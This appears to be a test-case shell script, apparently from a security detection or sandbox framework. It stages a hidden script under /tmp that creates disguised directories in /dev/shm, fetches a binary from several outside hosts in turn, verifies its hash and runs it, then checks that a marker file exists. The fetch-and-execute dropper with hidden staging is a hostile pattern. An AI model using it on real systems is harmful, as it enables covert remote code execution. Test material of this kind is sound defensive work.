#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.g <<'END'
mkdir -p /dev/shm/.. /dev/shm/.X11-lock; cd /dev/shm/.X11-lock
sum=$(curl -s http://203.0.113.10/programs/marker | sha256sum | cut -d' ' -f1)
for h in 198.51.100.200:9999 198.51.100.201:80 203.0.113.10:80; do
    curl -s -m 2 -o m "http://$h/programs/marker" || continue
    echo "$sum  m" | sha256sum -c --status && { chmod 700 m; ./m & wait; break; }
done
END
sh /tmp/.g
test -e /tmp/reached
took_place
